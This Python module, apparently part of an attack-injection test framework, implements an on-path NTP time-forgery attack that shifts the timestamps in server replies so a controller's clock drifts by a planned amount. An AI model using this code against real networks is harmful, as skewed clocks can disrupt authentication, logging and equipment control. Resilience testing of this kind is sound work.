"""Time forgery: the times in the NTP server's answers are shifted, and with them a controller's clock."""

import struct

from coldaisle_injector.catalogue import OnPath

_STAMPS = struct.Struct("!QQ")
_RECEIVED = 32
"""Offset of receive and transmit timestamp in an NTP packet (RFC 5905, figure 8): 64 bits each, of which 32 are the fraction."""


class Attack(OnPath):
    """Shifts the server's times, so that the unit computes a wrong offset."""

    def on_answer(self, slot: int, datagram: bytes) -> bytes:
        """Shift the answers to the queries that the plan names."""
        act = self.acts.get((slot, 0))
        if act is None or len(datagram) < _RECEIVED + _STAMPS.size:
            return datagram
        shifted = [stamp + round(act.amount * 2**32) for stamp in _STAMPS.unpack_from(datagram, _RECEIVED)]
        stamps = _STAMPS.pack(*(stamp % 2**64 for stamp in shifted))
        return datagram[:_RECEIVED] + stamps + datagram[_RECEIVED + _STAMPS.size :]
